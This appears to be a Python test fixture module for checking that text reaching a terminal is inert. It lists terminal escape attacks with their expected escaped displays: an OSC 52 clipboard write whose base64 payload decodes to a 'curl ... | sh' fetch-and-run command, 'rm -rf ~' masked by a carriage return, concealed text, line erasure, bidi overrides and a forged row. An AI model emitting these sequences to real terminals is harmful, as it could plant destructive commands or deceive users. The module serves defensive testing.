"""Terminal attacks for the tests of what reaches a terminal: each hostile text with how text
(a reply, tool output) and a one-line field (a title, an option label, a row) must show it, and
checks that bytes, or every string of a JSON value, hold nothing a terminal acts on.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

FORGED_ROW = "sess_forged  2026-01-01 00:00  scripted  completed"
# (name, what the model or agent writes, how text shows it, how a one-line field shows it)
ATTACKS = [
    ("osc-52-clipboard", "\x1b]52;c;Y3VybCBlLnZpbHxzaA==\x07", "^[]52;c;Y3VybCBlLnZpbHxzaA==^G"),
    ("osc-0-window-title", "\x1b]0;pwned\x07", "^[]0;pwned^G"),
    ("erase-the-line-above", "x\x1b[1A\x1b[2Kls", "x^[[1A^[[2Kls"),
    ("carriage-return-overwrite", "rm -rf ~\rls", "rm -rf ~^Mls"),
    ("concealed-text", "\x1b[8mhidden\x1b[0m", "^[[8mhidden^[[0m"),
    ("c1-csi", "\x9b31mred\x9b0m", "M-^[31mredM-^[0m"),
    ("bidi-override", "abc\u202efed\u202c \u2066x\u2069 \u200f", "abcfed x "),
    ("newline-forging-a-row", f"t\n{FORGED_ROW}", f"t\n{FORGED_ROW}", f"t^J{FORGED_ROW}"),
]
CASES = [pytest.param(hostile, text, *(field or [text]), id=name) for name, hostile, text, *field in ATTACKS]
# What no byte written for a terminal may hold: C0 controls but newline and tab, DEL, C1, bidi.
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def inert(data: bytes) -> str:
    """`data` as text, failing when it holds anything a terminal would act on."""
    text = data.decode("utf-8")
    found = ACTIVE.search(text)
    assert found is None, f"{found.group()!r} reached the terminal in {text!r}"
    return text


def inert_json(value: Any) -> None:
    """Every string of a JSON value is inert, as `jq -r` would print it."""
    if isinstance(value, str):
        inert(value.encode())
    elif isinstance(value, dict):
        for key, item in value.items():
            inert(key.encode())
            inert_json(item)
    elif isinstance(value, list):
        for item in value:
            inert_json(item)
